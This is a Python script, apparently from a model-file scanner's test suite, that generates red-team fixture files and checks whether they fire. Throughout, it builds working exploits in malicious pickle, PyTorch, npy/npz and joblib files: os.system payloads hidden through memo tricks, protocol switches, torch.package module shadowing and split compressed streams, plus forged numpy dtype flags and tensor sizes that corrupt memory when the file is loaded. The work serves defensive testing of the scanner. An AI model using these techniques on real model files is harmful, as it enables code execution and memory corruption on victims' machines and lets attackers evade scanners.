# Red-team fixtures, round 2 (session 4): holes in the *proof* of the
# strict profile rather than new names -- values computed at load time
# where a literal was assumed, numpy state set through paths other than
# BUILD, objects mutated after they were judged, parser differentials,
# torch rebuild functions that skip torch.load's own checks, npy header
# spellings numpy's descr_to_dtype accepts, and joblib compressor framing.
#
#     cd formats/pickle && /usr/bin/python3 testdata/make_redteam2.py [NAME...]
#
# (Debian python3 3.11, python3-torch 1.13, python3-numpy 1.24, joblib 1.2.)
# Writes testdata/attacks/redteam2/<name> and labels.tsv (name, class,
# loader, live: "runs" when the payload ran (it creates modelvet-poc in a
# fresh temporary folder), "crash" when the loader died on a signal
# (memory corruption from values the file controls), "refused" when the
# loader raises before any payload, "parsed-only" when no stock loader
# reads that part). With names, only those are proven again.
import bz2, gzip, io, lzma, os, struct, subprocess, sys, tempfile, zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import make_redteam as rt  # noqa: E402  (P, system_pickle, npy, torch_zip_bytes, fixed zip dates)
from make_redteam import P, CMD, MARK, system_pickle, npy, npz_of, torch_zip_bytes, OBJ_PAYLOAD  # noqa: E402

OUT = os.path.join(HERE, "attacks", "redteam2")


def dtype_call(p, spec):
    # numpy.dtype(spec, False, True): a fresh (non-singleton) descriptor
    return p.g("numpy", "dtype").s(spec).op(0x89, 0x88).t3().reduce()


def reconstruct(p):
    # numpy.core.multiarray._reconstruct(numpy.ndarray, (0,), b"b")
    return p.g("numpy.core.multiarray", "_reconstruct").g("numpy", "ndarray").i(0).t1().by(b"b").t3().reduce()


def int_call(p, text):
    # builtins.int("<text>"): a safe-listed call whose result is an int
    return p.g("builtins", "int").s(text).t1().reduce()


def np_int_scalar(p, n):
    # numpy.core.multiarray.scalar(numpy.dtype("i8"), <8 bytes>): a numpy
    # integer, which numpy's "i" argument parsing takes through __index__
    p.g("numpy.core.multiarray", "scalar")
    dtype_call(p, "i8")
    return p.by(struct.pack("<q", n)).t2().reduce()


def forged_object_array(version=None, flags=None, short=None):
    # builtins.str(ndarray of a dtype "|O8" whose state says "no objects",
    # filled from 8 raw bytes): str() dereferences 0x4141... as a PyObject.
    p = P(2).g("builtins", "str")
    reconstruct(p)
    p.mark().i(1).i(1).t1()
    dtype_call(p, "O8")
    p.mark()
    (version or (lambda q: q.i(3)))(p)
    p.s("|").none()
    if short == 6:  # (version, endian, subarray, fields, elsize, alignment)
        p.none().i(8).i(1)
    else:
        p.none().none().i(8).i(1)
        if short != 7:
            (flags or (lambda q: q.i(0)))(p)
    p.tup().op(b"b")
    p.op(0x89).by(b"\x41" * 8).tup().op(b"b")
    return p.t1().reduce().stop()


# ---- numpy state from values computed at load time ------------------------

def numpy_dtype_flags_int_call():
    return forged_object_array(flags=lambda p: int_call(p, "0"))


def numpy_dtype_flags_numpy_scalar():
    return forged_object_array(flags=lambda p: np_int_scalar(p, 0))


def numpy_dtype_version_int_call():
    return forged_object_array(version=lambda p: int_call(p, "3"))


def numpy_dtype_flags_long_padded():
    # flags 0 as a 9-byte LONG1 (zero padding): a big-looking literal
    return forged_object_array(flags=lambda p: p.op(0x8a, 9, b"\0" * 9))


def numpy_dtype_state_7tuple():
    # (version, endian, subarray, names, fields, elsize, alignment): numpy's
    # "(iOOOOii)" layout leaves the flags at 0 for version >= 3
    return forged_object_array(short=7)


def numpy_dtype_state_6tuple():
    # (version, endian, subarray, fields, elsize, alignment): "(iOOOii)"
    return forged_object_array(short=6)


def numpy_dtype_mutated_after_array():
    # arr = ndarray over 8 raw bytes of dtype V8 (plain: legitimate), then
    # a second BUILD turns that same dtype object into a structured dtype
    # with an object field (flags right: 63). The array shares the dtype,
    # so str(arr) reads its raw bytes as a PyObject pointer.
    p = P(2).g("builtins", "str")
    dtype_call(p, "V8").put(1).pop()
    reconstruct(p).mark().i(1).i(1).t1().get(1).op(0x89).by(b"\x41" * 8).tup().op(b"b").put(2).pop()
    p.get(1).mark().i(3).s("|").none().s("x").t1()
    p.mark().s("x")
    dtype_call(p, "O8")
    p.i(0).t2().op(b"d").i(8).i(1).i(63).tup().op(b"b").pop()
    p.get(2)
    return p.t1().reduce().stop()


def numpy_dtype_field_mutated_after_parent():
    # outer = V8 with field a: (inner, 0), flags 0, built while inner is
    # plain V8; then inner is given an object field (flags 63). The outer
    # dtype still says "no objects": the array over raw bytes is read as
    # pointers through the field.
    p = P(2).g("builtins", "str")
    dtype_call(p, "V8").put(1).pop()  # inner
    dtype_call(p, "V8")  # outer
    p.mark().i(3).s("|").none().s("a").t1().mark().s("a").get(1).i(0).t2().op(b"d").i(8).i(1).i(0).tup().op(b"b").put(2).pop()
    p.get(1).mark().i(3).s("|").none().s("x").t1()
    p.mark().s("x")
    dtype_call(p, "O8")
    p.i(0).t2().op(b"d").i(8).i(1).i(63).tup().op(b"b").pop()
    reconstruct(p).mark().i(1).i(1).t1().get(2).op(0x89).by(b"\x41" * 8).tup().op(b"b")
    return p.t1().reduce().stop()


def numpy_rng_pos_int_call():
    # RandomState pos = builtins.int("100000000")
    import numpy as np
    import pickle as _pickle
    raw = _pickle.dumps(np.random.RandomState(0), protocol=2)
    i = raw.index(b"pos")
    j = raw.index(b"M" + struct.pack("<H", 624), i)
    call = bytes(int_call(P(None), "100000000").b)
    return raw[:j] + call + raw[j + 3:]


class _Reduce:
    """An object that pickles as (callable, args[, state]): lets pickle
    write the stream of a call the attack needs, with real state values."""

    def __init__(self, fn, args, state=None):
        self.fn, self.args, self.state = fn, args, state

    def __reduce__(self):
        if self.state is None:
            return (self.fn, self.args)
        return (self.fn, self.args, self.state)


def numpy_rng_via_rebuild_from_type():
    # torch._tensor._rebuild_from_type_v2(__randomstate_ctor, RandomState,
    # ("MT19937",), state): ret.__setstate__(state) with pos = 10**8, never
    # through a BUILD opcode.
    import numpy as np
    import numpy.random._pickle as npr
    import pickle as _pickle
    import torch
    st = np.random.RandomState(0).__getstate__()
    raw = _pickle.dumps(_Reduce(torch._tensor._rebuild_from_type_v2,
                                (npr.__randomstate_ctor, np.random.mtrand.RandomState, ("MT19937",), st)), protocol=2)
    i = raw.index(b"pos")
    j = raw.index(b"M" + struct.pack("<H", 624), i)
    return raw[:j] + b"J" + struct.pack("<i", 10 ** 8) + raw[j + 3:]


def _rebuild_from_type_short_list():
    import numpy as np
    import pickle as _pickle
    import torch
    # pickle writes the call; the list is shortened afterwards
    st = (1, (7,), np.dtype("O"), False, ["x"] * 7)
    raw = _pickle.dumps(_Reduce(builtins_str(), (_Reduce(torch._tensor._rebuild_from_type_v2,
                        (np.core.multiarray._reconstruct, np.ndarray, (np.ndarray, (0,), b"b"), st)),)), protocol=2)
    # shape (7,) -> (100000,)
    j = raw.index(b"K\x07\x85")
    return raw[:j] + b"J" + struct.pack("<i", 100000) + raw[j + 2:]


def numpy_short_list_past_budget():
    # 2100 lists of 256 ints exhaust the items a scanner keeps, then the
    # short object list of round 1: its state tuple is no longer kept
    pad = (b"](" + b"K\x01" * 256 + b"e0") * 2100
    body = rt.numpy_object_short_list()
    return body[:2] + pad + body[2:]


def dtype_flags_partial(flags):
    # an object dtype whose flags keep NPY_ITEM_HASOBJECT|NPY_LIST_PICKLE
    # but drop NPY_NEEDS_INIT (0x08): numpy then allocates the array
    # without zeroing it, and the list path's OBJECT_setitem decrefs
    # whatever the heap held there. Freed 64-byte bytes objects first
    # leave that memory dirty.
    def make():
        p = P(2).op(b"]").mark()
        for _ in range(2000):
            p.op(b"C\x40" + b"A" * 64)
        p.op(b"e").pop()
        dtype_call(p, "O8")
        p.mark().i(3).s("|").none().none().none().i(8).i(1).i(flags).tup().op(b"b").put(1).pop()
        p.g("builtins", "str").op(b"]").mark()
        for _ in range(50):
            reconstruct(p).mark().i(1).i(64).t1().get(1).op(0x89).op(b"]").mark()
            for _ in range(64):
                p.s("x")
            p.op(b"e").tup().op(b"b")
        p.op(b"e").t1().reduce()
        return p.stop()
    return make


def numpy_dtype_fields_mutated():
    # dtype V8 with fields {"a": (f8, 0)} (plain, flags 16: right), then a
    # SETITEM on that same fields dict (memo 1) makes "a" an object field.
    # numpy keeps the dict by reference: the dtype now holds an object
    # with flags 16, and the array over raw bytes reads them as a pointer.
    p = P(2).g("builtins", "str")
    dtype_call(p, "V8").put(2).mark().i(3).s("|").none().s("a").t1()
    p.op(b"}").put(1).s("a")
    dtype_call(p, "f8")
    p.i(0).t2().op(b"s").i(8).i(1).i(16).tup().op(b"b").pop()
    p.get(1).s("a")
    dtype_call(p, "O8")
    p.i(0).t2().op(b"s").pop()
    reconstruct(p).mark().i(1).i(1).t1().get(2).op(0x89).by(b"\x41" * 8).tup().op(b"b")
    return p.t1().reduce().stop()


def numpy_dtype_via_copyreg_newobj():
    # the object dtype made by copyreg.__newobj__(numpy.dtype, "O8", False,
    # True), then BUILD flags 0: its type spec is the call's second
    # argument, not its first (the class)
    p = P(2).g("builtins", "str")
    reconstruct(p)
    p.mark().i(1).i(1).t1()
    p.g("copyreg", "__newobj__").mark().g("numpy", "dtype").s("O8").op(0x89, 0x88).tup().reduce()
    p.mark().i(3).s("|").none().none().none().i(8).i(1).i(0).tup().op(b"b")
    p.op(0x89).by(b"\x41" * 8).tup().op(b"b")
    return p.t1().reduce().stop()


def builtins_str():
    import builtins
    return builtins.str


def numpy_wrapper_dtype_int_flags():
    # joblib NumpyArrayWrapper whose dtype is "|O8" with flags
    # builtins.int("0"): joblib sees hasobject False and fills the array
    # with numpy.frombuffer (raw bytes as object pointers); the first
    # print dereferences them.
    p = P(2).g("joblib.numpy_pickle", "NumpyArrayWrapper").op(b")").op(0x81)
    p.mark().s("subclass").g("numpy", "ndarray").s("shape").i(1).t1().s("order").s("C")
    p.s("dtype")
    dtype_call(p, "O8")
    p.mark().i(3).s("|").none().none().none().i(8).i(1)
    int_call(p, "0")
    p.tup().op(b"b")
    p.s("allow_mmap").op(0x89).op(b"d").op(b"b")
    return bytes(p.b) + b"\x41" * 8 + b"."


# ---- pickle parser differentials -----------------------------------------

def memo_index_underscore():
    # protocol 0 PUT/GET indexes are read with Python's int(), which takes
    # "1_0" as 10 (PEP 515) and "+3" as 3: the dtype flags come from memo
    # 10 (0), not from a literal next to them.
    return (b"I0\np1_0\n0"  # memo[10] = 0
            b"c__builtin__\nstr\n("  # str(
            b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(I0\ntS'b'\ntR"  # array
            b"(I1\n(I1\nt"  # state: version, shape
            b"cnumpy\ndtype\n(S'O8'\nI00\nI01\ntR"  # dtype("O8", False, True)
            b"(I3\nS'|'\nNNNI8\nI1\ng+1_0\ntb"  # BUILD, flags = memo[10]
            b"I00\n"  # is_fortran
            b"c_codecs\nencode\n(VAAAAAAAA\nVlatin1\ntR"  # raw data
            b"tbtR.")


def memo_put_overwrite():
    # PUT 0 twice: the second value wins (as in both unpicklers)
    p = P(4).s("builtins").put(0).pop().s("os").put(0).pop()
    p.get(0).s("system").op(0x93).s(CMD).t1().reduce()
    return p.stop()


def proto_mid_stream():
    # PROTO 4 after a protocol-2 opening; STACK_GLOBAL then
    p = P(2).none().pop().op(0x80, 4).sg("posix", "system").s(CMD).t1().reduce()
    return p.stop()


def long_binget_memo():
    # LONG_BINPUT/LONG_BINGET with an index of 2**24
    p = P(2).g("posix", "system").op(b"r" + struct.pack("<I", 1 << 24)).pop()
    p.op(b"j" + struct.pack("<I", 1 << 24)).s(CMD).t1().reduce()
    return p.stop()


def pop_mark_then_global():
    # MARK then POP (CPython's load_pop pops the mark), then the call
    p = P(2).mark().pop().g("posix", "system").s(CMD).t1().reduce()
    return p.stop()


def int_bool_spelling_flags():
    # protocol 0 INT "00" is False, "01" True (bools); "0" is the int. numpy
    # takes a bool as an int: flags = False.
    return forged_object_array(flags=lambda p: p.op(b"I00\n"))


# ---- torch ------------------------------------------------------------------

def _tensor(p, storage_cls, values, size, stride):
    # torch._utils._rebuild_tensor_v2(torch.<Cls>Storage([...]), 0, size,
    # stride, False, OrderedDict()) -- safe-listed names only
    p.g("torch._utils", "_rebuild_tensor_v2").mark()
    p.g("torch", storage_cls).op(b"]").mark()
    for v in values:
        if isinstance(v, float):
            p.op(b"G" + struct.pack(">d", v))
        else:
            p.op(b"J" + struct.pack("<i", v))
    p.op(b"e").t1().reduce()
    p.i(0)
    for t in (size, stride):
        p.mark()
        for v in t:
            p.i(v)
        p.tup()
    p.op(0x89).g("collections", "OrderedDict").empty_tuple().reduce().tup().reduce()
    return p


def torch_sparse_csr_oob():
    # _rebuild_sparse_csr_tensor(sparse_csr, (crow, col, values, (1, 4)))
    # with a column index of 2**28: torch.load validates loaded sparse
    # tensors, pickle.load does not; to_dense() writes out of bounds.
    p = P(2).g("torch._utils", "_rebuild_sparse_csr_tensor").g("torch", "sparse_csr").mark()
    _tensor(p, "LongStorage", [0, 2], (2,), (1,))
    _tensor(p, "LongStorage", [0, 1 << 28], (2,), (1,))
    _tensor(p, "FloatStorage", [1.0, 2.0], (2,), (1,))
    p.i(1).i(4).t2().tup().t2().reduce()
    return p.stop()


def torch_zip_sparse_csr_oob():
    # torch.save of a 1x4 CSR tensor, its column index record (data/1)
    # patched to 2**28: torch.load runs _validate_loaded_sparse_tensors
    # after unpickling and refuses it
    import torch
    import warnings
    warnings.simplefilter("ignore")
    raw = _torch_zip_of(torch.tensor([[1.0, 2.0, 0.0, 0.0]]).to_sparse_csr())
    z = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as o:
        for i in z.infolist():
            d = z.read(i.filename)
            if i.filename.endswith("data/1"):
                d = struct.pack("<qq", 0, 1 << 28)
            o.writestr(i.filename, d)
    return out.getvalue()


def _torch_zip_of(obj):
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def zip_storage_numel_forged():
    # torch.save({'w': zeros(2)}) with the persistent id's numel and the
    # size raised to 2**24: torch 1.13 trusts numel for the storage size,
    # so the tensor spans 64 MiB past an 8-byte record.
    import torch
    raw = _torch_zip_of({"w": torch.zeros(2)})
    z = zipfile.ZipFile(io.BytesIO(raw))
    members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    out = io.BytesIO()
    N = 1 << 24
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as o:
        for n, d in members:
            if n.endswith("data.pkl"):
                d = d.replace(b"K\x02t", b"J" + struct.pack("<i", N) + b"t", 1)
                d = d.replace(b"K\x02\x85", b"J" + struct.pack("<i", N) + b"\x85", 1)
            o.writestr(n, d)
    return out.getvalue()


def torchscript_numel_forged():
    # torch.jit.save of a module with a 2-float parameter, the persistent
    # id's numel and the size raised to 2**24: TorchScript's C++
    # unpickler trusts numel for the storage size as torch.load does.
    import torch

    class M(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.w = torch.nn.Parameter(torch.zeros(2))

        def forward(self, x):
            return x + self.w.sum()

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(M()), buf)
    z = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    N = 1 << 24
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as o:
        for i in z.infolist():
            d = z.read(i.filename)
            if i.filename.endswith("/data.pkl"):
                d = d.replace(b"K\x02t", b"J" + struct.pack("<i", N) + b"t", 1)
                d = d.replace(b"(K\x02t", b"(J" + struct.pack("<i", N) + b"t", 1)
            o.writestr(i.filename, d)
    return out.getvalue()


def zip_rng_via_rebuild_from_type():
    # numpy_rng_via_rebuild_from_type as a torch checkpoint's data.pkl
    return torch_zip_bytes(numpy_rng_via_rebuild_from_type())


def zip_dtype_mutated_after_array():
    return torch_zip_bytes(numpy_dtype_mutated_after_array())


def zip_dtype_flags_int_call():
    return torch_zip_bytes(numpy_dtype_flags_int_call())


def legacy_dtype_flags_int_call():
    # legacy (non-zip) torch.save stream: magic, protocol, sys_info, then
    # the payload pickle is the main object
    return rt.MAGIC + rt.PROTO_V + rt.SYSINFO + numpy_dtype_flags_int_call() + rt.KEYS


def _torch_package(files):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for n, d in [("pkg/.data/version", b"6\n"), ("pkg/.data/extern_modules", b"os\n"),
                     ("pkg/.data/python_version", b"3.11")] + files:
            z.writestr(n, d)
    return buf.getvalue()


def torch_package_shadow():
    # torch.package: PackageImporter resolves modules against the archive
    # first, so the archive's own torch/_utils.py runs when the pickle
    # names the safe-listed torch._utils._rebuild_tensor_v2.
    src = b"import os\nos.system(%r)\ndef _rebuild_tensor_v2(*a):\n    return None\n" % CMD.encode()
    return _torch_package([("pkg/torch/__init__.py", b""), ("pkg/torch/_utils.py", src),
                           ("pkg/res/model.pkl", bytes(P(2).g("torch._utils", "_rebuild_tensor_v2").stop()))])


def torch_package_model_code():
    # the archive's own model module, run when the pickle names its class
    src = b"import os\nos.system(%r)\nclass Net:\n    pass\n" % CMD.encode()
    return _torch_package([("pkg/mymodel/__init__.py", b""), ("pkg/mymodel/net.py", src),
                           ("pkg/res/model.pkl", bytes(P(2).g("mymodel.net", "Net").empty_tuple().op(0x81).stop()))])


# ---- npy headers ------------------------------------------------------------

def npy_descr_comma_string():
    # numpy.dtype("f8,O"): a comma list is a structured dtype (field f1 is
    # an object)
    return npy("{'descr': 'f8,O', 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_descr_list_of_str():
    # descr_to_dtype iterates a list; a 2-character string unpacks as
    # (name, format): ["aO"] is one object field named "a"
    return npy("{'descr': ['aO'], 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_descr_dict_keys():
    # iterating a dict yields its keys: {'aO': 0} is the field ("a", "O")
    return npy("{'descr': {'aO': 0}, 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_descr_titled_object():
    # a field named by (title, name)
    return npy("{'descr': [(('t', 'a'), '|O')], 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_descr_nested_object():
    return npy("{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_descr_tuple_subarray():
    # a tuple descr is (base, shape)
    return npy("{'descr': ('|O', (1,)), 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_descr_object_word():
    return npy("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_descr_count_prefix():
    # "1O": a one-item subarray of objects
    return npy("{'descr': '1O', 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_py2_long_shape():
    # a Python 2 header: (1L,) is a SyntaxError, so numpy (versions <= 2.0)
    # strips the L tokens (_filter_header) and reads on
    return npy("{'descr': '|O', 'fortran_order': False, 'shape': (1L,), }", OBJ_PAYLOAD)



def npy_descr_empty_name_object():
    # a field with an empty name and an object type is not padding
    return npy("{'descr': [('', '|O')], 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npz_eocd_prefix():
    # numpy.load opens a file starting "PK\x05\x06" as a zip: an empty
    # end record first, the real archive after it
    return b"PK\x05\x06" + b"\0" * 18 + npz_of([("x.npy", rt.npy_evil())])


def _npz_method(method):
    def make():
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", method) as z:
            z.writestr("x.npy", rt.npy_evil())
        return buf.getvalue()
    return make


# ---- joblib -----------------------------------------------------------------

def joblib_ndarraywrapper_proc_cwd():
    # joblib < 0.10 NDArrayWrapper: numpy.load(os.path.join(dirname,
    # filename), allow_pickle=True); an absolute filename wins, and
    # /proc/self/cwd is the loading process's folder.
    p = P(2).g("joblib.numpy_pickle", "NDArrayWrapper").op(b")").op(0x81)
    p.mark().s("filename").s("/proc/self/cwd/side.npy").s("subclass").g("numpy", "ndarray").s("allow_mmap").op(0x89).op(b"d").op(b"b")
    return p.stop()


def _split(pk):
    k = len(pk) // 2
    return pk[:k], pk[k:]


def joblib_gzip_two_members():
    a, b = _split(system_pickle())
    return gzip.compress(a, mtime=0) + gzip.compress(b, mtime=0)


def joblib_bz2_two_streams():
    a, b = _split(system_pickle())
    return bz2.compress(a) + bz2.compress(b)


def joblib_xz_two_streams():
    a, b = _split(system_pickle())
    return lzma.compress(a, format=lzma.FORMAT_XZ) + lzma.compress(b, format=lzma.FORMAT_XZ)


def joblib_xz_then_alone():
    # FORMAT_AUTO decodes an .xz stream then an .lzma ("alone") one
    a, b = _split(system_pickle())
    return lzma.compress(a, format=lzma.FORMAT_XZ) + lzma.compress(b, format=lzma.FORMAT_ALONE)



def joblib_lzma_unknown_size_trailing():
    # an "alone" stream then a second one holding more opcodes of the
    # same pickle
    a, b = _split(system_pickle())
    return lzma.compress(a, format=lzma.FORMAT_ALONE) + lzma.compress(b, format=lzma.FORMAT_ALONE)


# name, builder, class, loader, expected
FIXTURES = [
    ("numpy_dtype_flags_int_call.pkl", numpy_dtype_flags_int_call, "computed-int-dtype-flags", "pickle.load", "crash"),
    ("numpy_dtype_flags_numpy_scalar.pkl", numpy_dtype_flags_numpy_scalar, "computed-int-dtype-flags", "pickle.load", "crash"),
    ("numpy_dtype_version_int_call.pkl", numpy_dtype_version_int_call, "computed-int-dtype-version", "pickle.load", "crash"),
    ("numpy_dtype_flags_long_padded.pkl", numpy_dtype_flags_long_padded, "padded-long-dtype-flags", "pickle.load", "crash"),
    ("numpy_dtype_flags_int_bool.pkl", int_bool_spelling_flags, "bool-spelled-dtype-flags", "pickle.load", "crash"),
    ("numpy_dtype_flags_no_needs_init.pkl", dtype_flags_partial(3), "dtype-flags-partial", "pickle.load", "crash"),
    ("numpy_dtype_flags_55.pkl", dtype_flags_partial(55), "dtype-flags-partial", "pickle.load", "crash"),
    ("numpy_dtype_fields_mutated.pkl", numpy_dtype_fields_mutated, "dtype-fields-mutated-after-check", "pickle.load", "crash"),
    ("numpy_dtype_via_copyreg_newobj.pkl", numpy_dtype_via_copyreg_newobj, "dtype-through-copyreg", "pickle.load", "crash"),
    ("numpy_dtype_state_7tuple.pkl", numpy_dtype_state_7tuple, "dtype-state-short-layout", "pickle.load", "crash"),
    ("numpy_dtype_state_6tuple.pkl", numpy_dtype_state_6tuple, "dtype-state-short-layout", "pickle.load", "refused"),
    ("numpy_dtype_mutated_after_array.pkl", numpy_dtype_mutated_after_array, "dtype-mutated-after-use", "pickle.load", "crash"),
    ("numpy_dtype_field_mutated_after_parent.pkl", numpy_dtype_field_mutated_after_parent, "dtype-mutated-after-use", "pickle.load", "crash"),
    ("numpy_rng_pos_int_call.pkl", numpy_rng_pos_int_call, "computed-int-rng-pos", "pickle.load+draw", "crash"),
    ("numpy_rng_via_rebuild_from_type.pkl", numpy_rng_via_rebuild_from_type, "setstate-through-apply", "pickle.load+draw", "crash"),
    ("numpy_short_list_via_rebuild_from_type.pkl", _rebuild_from_type_short_list, "setstate-through-apply", "pickle.load", "crash"),
    ("numpy_short_list_past_budget.pkl", numpy_short_list_past_budget, "state-past-keep-budget", "pickle.load", "crash"),
    ("joblib_wrapper_dtype_int_flags.joblib", numpy_wrapper_dtype_int_flags, "computed-int-dtype-flags", "joblib.load+str", "crash"),
    ("memo_index_underscore.pkl", memo_index_underscore, "memo-index-int-spelling", "pickle.load", "crash"),
    ("memo_put_overwrite.pkl", memo_put_overwrite, "memo-overwrite", "pickle.load", "runs"),
    ("proto_mid_stream.pkl", proto_mid_stream, "proto-mid-stream", "pickle.load", "runs"),
    ("long_binget_memo.pkl", long_binget_memo, "long-binget-width", "pickle.load", "runs"),
    ("pop_mark_then_global.pkl", pop_mark_then_global, "pop-of-mark", "pickle.load", "runs"),
    ("torch_sparse_csr_oob.pkl", torch_sparse_csr_oob, "unvalidated-sparse-tensor", "pickle.load+to_dense", "crash"),
    ("zip_sparse_csr_oob.pt", torch_zip_sparse_csr_oob, "sparse-tensor-in-torch-zip", "torch.load+to_dense", "refused"),
    ("zip_storage_numel_forged.pt", zip_storage_numel_forged, "storage-numel-forged", "torch.load+sum", "crash"),
    ("torchscript_numel_forged.pt", torchscript_numel_forged, "storage-numel-forged-torchscript", "torch.jit.load+sum", "crash"),
    ("zip_rng_via_rebuild_from_type.pt", zip_rng_via_rebuild_from_type, "setstate-through-apply", "torch.load+draw", "crash"),
    ("zip_dtype_mutated_after_array.pt", zip_dtype_mutated_after_array, "dtype-mutated-after-use", "torch.load", "crash"),
    ("zip_dtype_flags_int_call.pt", zip_dtype_flags_int_call, "computed-int-dtype-flags", "torch.load", "crash"),
    ("legacy_dtype_flags_int_call.pt", legacy_dtype_flags_int_call, "computed-int-dtype-flags", "torch.load", "crash"),
    ("torch_package_shadow.pt", torch_package_shadow, "torch-package-shadowed-module", "torch.package", "runs"),
    ("torch_package_model_code.pt", torch_package_model_code, "torch-package-code", "torch.package", "runs"),
    ("npy_descr_comma_string.npy", npy_descr_comma_string, "npy-descr-comma-list", "numpy.load", "runs"),
    ("npy_descr_list_of_str.npy", npy_descr_list_of_str, "npy-descr-unpacked-string", "numpy.load", "runs"),
    ("npy_descr_dict_keys.npy", npy_descr_dict_keys, "npy-descr-dict-keys", "numpy.load", "runs"),
    ("npy_descr_titled_object.npy", npy_descr_titled_object, "npy-descr-titled-field", "numpy.load", "runs"),
    ("npy_descr_nested_object.npy", npy_descr_nested_object, "npy-descr-nested-structured", "numpy.load", "runs"),
    ("npy_descr_tuple_subarray.npy", npy_descr_tuple_subarray, "npy-descr-tuple", "numpy.load", "runs"),
    ("npy_descr_object_word.npy", npy_descr_object_word, "npy-descr-type-name", "numpy.load", "runs"),
    ("npy_descr_count_prefix.npy", npy_descr_count_prefix, "npy-descr-count-prefix", "numpy.load", "runs"),
    ("npy_py2_long_shape.npy", npy_py2_long_shape, "npy-header-python2-long", "numpy.load", "runs"),
    ("npy_descr_empty_name_object.npy", npy_descr_empty_name_object, "npy-descr-empty-name", "numpy.load", "runs"),
    ("npz_eocd_prefix.npz", npz_eocd_prefix, "npz-end-record-prefix", "numpy.load[x]", "runs"),
    ("npz_lzma_member.npz", _npz_method(zipfile.ZIP_LZMA), "npz-member-method-lzma", "numpy.load[x]", "runs"),
    ("npz_bzip2_member.npz", _npz_method(zipfile.ZIP_BZIP2), "npz-member-method-bzip2", "numpy.load[x]", "runs"),
    ("joblib_ndarraywrapper_proc_cwd.pkl", joblib_ndarraywrapper_proc_cwd, "joblib-side-file-absolute", "joblib.load+side", "runs"),
    ("joblib_gzip_two_members.joblib", joblib_gzip_two_members, "compressed-multi-stream", "pickle.load(gzip.open)", "runs"),
    ("joblib_bz2_two_streams.joblib", joblib_bz2_two_streams, "compressed-multi-stream", "joblib.load", "runs"),
    ("joblib_xz_two_streams.joblib", joblib_xz_two_streams, "compressed-multi-stream", "joblib.load", "runs"),
    ("joblib_xz_then_alone.joblib", joblib_xz_then_alone, "compressed-multi-stream", "joblib.load", "runs"),
    ("joblib_lzma_two_streams.joblib", joblib_lzma_unknown_size_trailing, "compressed-multi-stream", "joblib.load", "runs"),
]

LOADER = r"""
import sys, os, warnings
warnings.simplefilter("ignore")
path, loader = sys.argv[1], sys.argv[2]
try:
    if loader == "pickle.load":
        import pickle
        pickle.load(open(path, "rb"))
    elif loader == "pickle.load+draw":
        import pickle
        g = pickle.load(open(path, "rb"))
        for _ in range(4):
            (g.integers if hasattr(g, "integers") else g.randint)(0, 10, 100000)
    elif loader == "pickle.load+to_dense":
        import pickle
        print(pickle.load(open(path, "rb")).to_dense())
    elif loader == "torch.load":
        import torch
        torch.load(path)
    elif loader == "torch.load+draw":
        import torch
        g = torch.load(path)
        for _ in range(4):
            g.randint(0, 10, 100000)
    elif loader == "torch.load+to_dense":
        import torch
        print(torch.load(path).to_dense())
    elif loader == "torch.jit.load+sum":
        import torch
        print(float(torch.jit.load(path).w.sum()))
    elif loader == "torch.load+sum":
        import torch
        print([float(t.sum()) for t in torch.load(path).values()])
    elif loader == "torch.package":
        from torch.package import PackageImporter
        PackageImporter(path).load_pickle("res", "model.pkl")
    elif loader == "numpy.load":
        import numpy
        numpy.load(path, allow_pickle=True)
    elif loader.startswith("numpy.load["):
        import numpy
        z = numpy.load(path, allow_pickle=True)
        z[loader[len("numpy.load["):-1]]
    elif loader == "joblib.load":
        import joblib
        joblib.load(path)
    elif loader == "pickle.load(gzip.open)":
        import gzip, pickle
        pickle.load(gzip.open(path))
    elif loader == "joblib.load+str":
        import joblib
        print(str(joblib.load(path)))
    elif loader == "joblib.load+side":
        # the side file the wrapper names, in the loader's folder
        import joblib, shutil
        open("side.npy", "wb").write(bytes.fromhex(sys.argv[3]))
        joblib.load(path)
except BaseException as e:
    print("load raised", type(e).__name__, str(e)[:200], file=sys.stderr)
"""


def prove(path, loader):
    with tempfile.TemporaryDirectory() as d:
        argv = [sys.executable, "-c", LOADER, path, loader]
        if loader == "joblib.load+side":
            argv.append(system_pickle().hex())
        try:
            r = subprocess.run(argv, cwd=d, capture_output=True, text=True, timeout=120)
        except subprocess.TimeoutExpired:
            return os.path.exists(os.path.join(d, MARK)), ["timed out"], 0
        return os.path.exists(os.path.join(d, MARK)), r.stderr.strip().splitlines()[-1:] if r.stderr.strip() else [], r.returncode


def main():
    os.makedirs(OUT, exist_ok=True)
    only = set(sys.argv[1:])
    old = {}
    lp = os.path.join(OUT, "labels.tsv")
    if only and os.path.exists(lp):
        for line in open(lp):
            if not line.startswith("#"):
                r = line.rstrip("\n").split("\t")
                old[r[0]] = tuple(r)
    rows = []
    for name, make, cls, loader, expect in FIXTURES:
        path = os.path.join(OUT, name)
        with open(path, "wb") as f:
            f.write(make())
        if only and name not in only:
            if name in old:
                rows.append(old[name])
            continue
        ran, err, rc = prove(path, loader)
